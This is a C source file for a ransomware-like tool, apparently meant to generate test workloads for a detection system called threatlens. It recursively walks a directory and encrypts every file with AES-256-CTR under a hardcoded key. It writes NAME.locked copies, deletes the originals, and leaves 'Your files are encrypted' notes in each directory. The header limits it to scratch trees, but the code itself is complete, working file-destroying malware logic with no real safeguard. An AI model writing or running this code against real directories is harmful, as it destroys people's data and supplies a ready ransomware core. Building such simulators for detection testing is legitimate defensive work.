/*
 * A ransomware-like tool for threatlens's workloads, in C with libcrypto (EVP, AES-256-CTR): walks a tree, writes
 * NAME.locked, deletes NAME, drops a ransom note in every directory. Destroys what it visits: scratch trees only.
 * Build: gcc -O2 -o locker locker.c -lcrypto
 */
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static unsigned char key[32] = "threatlens-workload-key-01234567";
static unsigned char iv[16] = "0123456789abcdef";
static unsigned delay_us = 0;

static int encrypt_one(const char *path) {
  FILE *in = fopen(path, "rb");
  if (!in) return 0;
  char out_path[4096];
  snprintf(out_path, sizeof out_path, "%s.locked", path);
  FILE *out = fopen(out_path, "wb");
  if (!out) { fclose(in); return 0; }
  EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
  EVP_EncryptInit_ex(ctx, EVP_aes_256_ctr(), NULL, key, iv);
  unsigned char buf[65536], enc[65536 + 32];
  size_t n;
  int len;
  while ((n = fread(buf, 1, sizeof buf, in)) > 0) {
    EVP_EncryptUpdate(ctx, enc, &len, buf, (int)n);
    fwrite(enc, 1, (size_t)len, out);
  }
  EVP_EncryptFinal_ex(ctx, enc, &len);
  fwrite(enc, 1, (size_t)len, out);
  EVP_CIPHER_CTX_free(ctx);
  fclose(in);
  fclose(out);
  unlink(path);
  if (delay_us) usleep(delay_us);
  return 1;
}

static int visit(const char *path, const struct stat *sb, int type, struct FTW *ftw) {
  (void)sb; (void)ftw;
  if (type == FTW_D) {
    char note[4096];
    snprintf(note, sizeof note, "%s/README_DECRYPT.txt", path);
    FILE *f = fopen(note, "w");
    if (f) { fputs("Your files are encrypted.\n", f); fclose(f); }
  } else if (type == FTW_F && !strstr(path, "README_DECRYPT.txt") && !strstr(path, ".locked")) {
    encrypt_one(path);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "usage: locker ROOT [delay-ms]\n"); return 2; }
  if (argc > 2) delay_us = (unsigned)atoi(argv[2]) * 1000u;
  return nftw(argv[1], visit, 16, FTW_PHYS) == 0 ? 0 : 1;
}
